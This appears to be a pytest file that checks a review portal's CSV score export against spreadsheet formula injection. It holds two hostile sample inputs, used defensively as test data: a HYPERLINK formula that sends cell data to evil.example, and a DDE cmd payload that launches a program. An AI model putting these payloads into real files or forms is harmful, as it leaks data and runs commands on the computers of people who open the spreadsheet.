"""The scores CSV opens in a spreadsheet as text: a name or comment that starts like a
formula (=, +, -, @, tab, carriage return) is never run as one."""

from __future__ import annotations

import csv
import io

import pytest

from portal.checklists.tables import Assessment
from portal.security import spreadsheet_cell
from tests.checklists.test_reviews import _both_members_submit, _panel, _submitted
from tests.conftest import post_form, sign_in

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_kept_as_text(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_are_unchanged():
    assert spreadsheet_cell("Publish your fee schedule.") == "Publish your fee schedule."
    assert spreadsheet_cell(2) == "2" and spreadsheet_cell("") == ""


async def test_a_chairs_formula_in_the_export_is_text(client, make_agency, make_user):
    review = await _submitted(make_agency, make_user)
    await _panel(client, review)
    await _both_members_submit(client, review)
    codes = review["codes"]
    await sign_in(client, review["chair"])
    await post_form(
        client,
        f"/reviews/{review['id']}/consensus",
        {
            f"consensus-{codes['1.1']}": "1",
            f"feedback-{codes['1.1']}": LINK,
            f"consensus-{codes['1.2']}": "na",
            f"consensus-{codes['2.1']}": "1",
            f"feedback-{codes['2.1']}": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
    )
    cycle_id = (await Assessment.select(Assessment.cycle).first())["cycle"]
    export = await client.get(f"/cycles/{cycle_id}/scores.csv")
    rows = {r["indicator"]: r for r in csv.DictReader(io.StringIO(export.text))}
    assert rows["1.1"]["consensus_comment"] == "'" + LINK
    assert rows["2.1"]["consensus_comment"].startswith("'@SUM")
    assert rows["1.1"]["member_scores"] == "Member Dara: 2; Member Vanna: 1"
